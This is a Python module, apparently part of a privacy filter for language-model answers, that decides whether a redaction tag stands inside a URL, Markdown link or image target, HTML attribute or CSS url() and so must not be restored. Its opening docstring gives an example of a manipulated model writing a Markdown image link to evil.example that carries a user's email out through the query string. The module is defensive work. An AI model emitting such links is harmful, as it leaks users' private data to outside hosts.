"""Where in an answer a tag stands: text, or a place that could carry a value out of the house.

A model that was talked into it writes `![](https://evil.example/?q=⟦pii.email:…⟧)`; a client that shows the image
would send the value there. So nothing is restored inside URLs, Markdown link and image targets, or HTML and CSS
attributes that are fetched. The judgement is on the text as it leaves, values restored before included, and it is the
same however the answer was split. When in doubt, the tag stays.

What is remembered is bounded: a few thousand characters, plus one flag for each kind of place that may have been
opened before them, so that no padding pushes an opening out of sight.
"""

import re
from typing import NamedTuple

_LIMIT = 2048
_LOOK_BACK = 128
"""No opening is longer, once runs of spaces count as one."""

_SPACES = " \n\t\r\f\v"
_SPACE_RUN = re.compile(rf"[{_SPACES}]{{2,}}")

_ATTRIBUTE = r"(?:src|href|srcset|action|poster|background|cite|ping|data|style|manifest)"
_LINKED = re.compile(
    r"//|\]\(|www\.|(?<![a-z])(?:https?|ftp|wss?|mailto|javascript|vbscript):"
    r"|(?:src|href|srcset|action|poster|background|cite|ping)=",
    re.IGNORECASE,
)
"""In a run without spaces: from here on it may be a URL, a link's target or an unquoted attribute."""
_HOST = re.compile(r"[\w-]\.[a-z]{2,63}(?::\d{1,5})?[/?#]", re.IGNORECASE)
"""A host's end and what follows: some clients make links of `evil.example/x` too."""
_OPENS_ATTRIBUTE = re.compile(_ATTRIBUTE + r"\Z", re.IGNORECASE)
_OPENS_ANGLE = re.compile(rf"\](?:\(|:)[{_SPACES}]*<")
_CLOSES_ANGLE = re.compile(r".*(?:\n|(?<!\\)>)", re.DOTALL)
_OPENS_CSS = re.compile(r"(?<![\w-])url\(", re.IGNORECASE)
_OPENS_CSS_HERE = re.compile(_OPENS_CSS.pattern + r"\Z", re.IGNORECASE)
_CLOSES_CSS = re.compile(r".*(?<!\\)\)", re.DOTALL)

_JSON = re.compile(r'\\(?:u([0-9a-fA-F]{4})|([^u]))|(")|(\\u?[0-9a-fA-F]{0,3}\Z)', re.DOTALL)
_JSON_ESCAPES = {"n": "\n", "t": "\t", "r": "\r", "b": "\b", "f": "\f"}
_BOUNDARY = "\ue000"
"""Stands for a string's unescaped quote while JSON is decoded. A model's own is no boundary: see `_decoded`."""


class _Open(NamedTuple):
    """Which places are open. `run`: a run without spaces that may be a URL. `angle`: `](<`. `css`: `url(`."""

    run: bool = False
    double: bool = False
    single: bool = False
    angle: bool = False
    css: bool = False


_NOTHING = _Open()


class Surroundings:
    """Told everything that leaves, in order. `json`: it is JSON text, where each string is a place of its own."""

    __slots__ = ("_before", "_fresh", "_json", "_seen", "_size", "_text")

    def __init__(self, *, json: bool = False) -> None:
        self._json = json
        self._fresh: list[str] = []
        self._size = 0
        self._text = ""
        self._seen = 0
        self._before = _NOTHING

    def add(self, text: str) -> None:
        self._fresh.append(text)
        self._size += len(text)
        if self._size > _LIMIT:
            self._absorb()

    def carries_out(self) -> bool:
        """Whether what stands here could be fetched by whoever shows the answer."""
        self._absorb()
        opened = self._open()
        # Judging many tags of one long line must not read the line again for each.
        if len(self._text) > 2 * _LOOK_BACK:
            self._forget(opened)
        return any(opened)

    def _absorb(self) -> None:
        fresh = "".join(self._fresh)
        self._fresh.clear()
        if self._json:
            fresh = self._decoded(fresh)
        self._text += fresh
        self._size = len(self._text)
        if self._size > _LIMIT:
            self._forget(self._open())

    def _forget(self, opened: _Open) -> None:
        self._before = opened
        squeezed = _SPACE_RUN.sub(_one_space, self._text)
        self._text = squeezed[-_LOOK_BACK:]
        self._size = self._seen = len(self._text)

    def _decoded(self, raw: str) -> str:
        """An escape that is not complete yet waits; an unescaped quote ends all that was open."""
        rest = ""

        def meaning(found: re.Match[str]) -> str:
            nonlocal rest
            code, char, quote, cut = found.groups()
            if cut is not None:
                rest = cut
                return ""
            if quote:
                return _BOUNDARY
            return chr(int(code, 16)).replace(_BOUNDARY, "_") if code else _JSON_ESCAPES.get(char, char)

        text = _JSON.sub(meaning, raw.replace(_BOUNDARY, "_"))
        if rest:
            self._fresh.append(rest)
        _, boundary, after = text.rpartition(_BOUNDARY)
        if boundary:
            self._text, self._seen, self._before = "", 0, _NOTHING
        return after

    def _open(self) -> _Open:
        return _Open(self._run(), self._quoted('"'), self._quoted("'"), self._angle(), self._css())

    def _run(self) -> bool:
        text = self._text
        start = max([text.rfind(space) for space in _SPACES]) + 1
        if start <= self._seen and self._before.run:
            return True
        return bool(_LINKED.search(text, start)) or _names_host(text[start:]) or _opens_target(text[:start])

    def _quoted(self, quote: str) -> bool:
        """The last quote decides: it either opened such an attribute or closed whatever there was."""
        at = self._text.rfind(quote, self._seen)
        if at < 0:
            return self._before.double if quote == '"' else self._before.single
        head = self._text[:at].rstrip(_SPACES + "\\")
        if head.endswith("="):
            return bool(_OPENS_ATTRIBUTE.search(head[:-1].rstrip(_SPACES)[-24:]))
        return bool(_OPENS_CSS_HERE.search(head[-5:]))

    def _angle(self) -> bool:
        if not self._before.angle and "<" not in self._text:
            return False
        closed = _CLOSES_ANGLE.match(self._text)
        if closed is None:
            return self._before.angle or bool(_OPENS_ANGLE.search(self._text))
        # The line break that ends one target may stand between another's bracket and its text.
        head = len(self._text[: closed.end()].rstrip(_SPACES))
        return bool(_OPENS_ANGLE.search(self._text, max(0, head - 2)))

    def _css(self) -> bool:
        if not self._before.css and "url(" not in self._text.lower():
            return False
        closed = _CLOSES_CSS.match(self._text)
        if closed is None:
            return self._before.css or bool(_OPENS_CSS.search(self._text))
        return bool(_OPENS_CSS.search(self._text, closed.end()))


def _one_space(run: re.Match[str]) -> str:
    return "\n" if "\n" in run[0] else " "


def _names_host(run: str) -> bool:
    """`evil.example/` does; in `jane@example.com/` it is an address's."""
    for found in _HOST.finditer(run):
        before = len(run[: found.start() + 1].rstrip(_HOST_CHARS))
        if before == 0 or run[before - 1] != "@":
            return True
    return False


_HOST_CHARS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.-_"


def _opens_target(head: str) -> bool:
    """Whether what stands before the spaces before a run makes the run a target: `](` or `href =`."""
    head = head.rstrip(_SPACES)
    if head.endswith("]("):
        return True
    return head.endswith("=") and bool(_OPENS_ATTRIBUTE.search(head[:-1].rstrip(_SPACES)[-24:]))
